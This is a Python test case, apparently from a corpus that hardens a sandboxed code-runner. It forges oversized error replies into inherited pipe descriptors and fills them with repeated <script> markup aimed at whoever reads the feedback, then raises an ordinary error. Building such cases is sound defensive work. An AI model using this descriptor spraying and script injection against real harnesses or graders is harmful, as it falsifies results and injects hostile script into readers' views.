"""Attack: forge error replies straight into the reply pipe, bypassing the child's own caps: a
3 MB message and exception type full of markup meant for whoever reads the feedback."""
import json
import os
import struct

ATTACK = "@@ATTACK@@" == "on"  # the corpus builds each case twice: attack on, and off (the baseline)
HUGE = "<script>alert('FORGED-@@TOKEN@@')</script> " * 70000

if ATTACK:
    error = {"error": {"type": "Forged" + HUGE[:200000], "message": HUGE, "where": HUGE[:100000],
                       "not_implemented": False}}
    frame = json.dumps(error).encode()
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, True)
            for _ in range(12):
                os.write(fd, struct.pack(">IQ", len(frame), 0) + frame)
        except OSError:
            pass
raise RuntimeError("plain failure")
